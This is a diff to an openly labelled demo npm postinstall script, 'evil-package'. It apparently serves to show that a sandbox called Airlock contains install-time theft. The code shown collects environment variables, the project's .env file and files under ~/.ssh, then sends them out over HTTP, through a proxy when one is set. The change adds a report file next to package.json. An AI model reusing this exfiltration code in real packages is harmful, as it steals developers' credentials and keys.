@@ -13,8 +13,16 @@ for (const f of [path.join(project, '.env'), path.join(os.homedir(), '.ssh', 'id
     loot.files[f] = `(${e.code})`;
   }
 }
-console.log(`[evil-package] collected ${Object.keys(loot.env).length} variables and ${Object.values(loot.files).filter((v) => !v.startsWith('(')).length} files:`);
-for (const [f, v] of Object.entries(loot.files)) console.log(`[evil-package]   ${f}: ${v.startsWith('(') ? v : `${v.length} bytes`}`);
+// (The demo also leaves a report beside package.json: npm hides a postinstall's output
+// unless it runs with --foreground-scripts.)
+const report = [];
+const say = (line) => {
+  console.log(line);
+  report.push(line);
+  fs.writeFileSync(path.join(project, 'evil-package-report.txt'), report.join('\n') + '\n');
+};
+say(`[evil-package] collected ${Object.keys(loot.env).length} variables and ${Object.values(loot.files).filter((v) => v !== '' && !v.startsWith('(')).length} files with content:`);
+for (const [f, v] of Object.entries(loot.files)) say(`[evil-package]   ${f}: ${v.startsWith('(') ? v : `${v.length} bytes`}`);
 
 // Through the proxy if there is one (as inside Airlock), else straight out.
 const proxy = process.env.HTTP_PROXY || process.env.http_proxy;
@@ -23,7 +31,7 @@ const opts = proxy ? { host: new URL(proxy).hostname, port: new URL(proxy).port,
 const req = http.request(opts, (res) => {
   let body = '';
   res.on('data', (d) => (body += d));
-  res.on('end', () => console.log(`[evil-package] exfiltration answered ${res.statusCode}: ${body.split('\n')[0]}`));
+  res.on('end', () => say(`[evil-package] exfiltration answered ${res.statusCode}: ${body.split('\n')[0]}`));
 });
-req.on('error', (e) => console.log(`[evil-package] exfiltration failed: ${e.message}`));
+req.on('error', (e) => say(`[evil-package] exfiltration failed: ${e.message}`));
 req.end(JSON.stringify(loot));
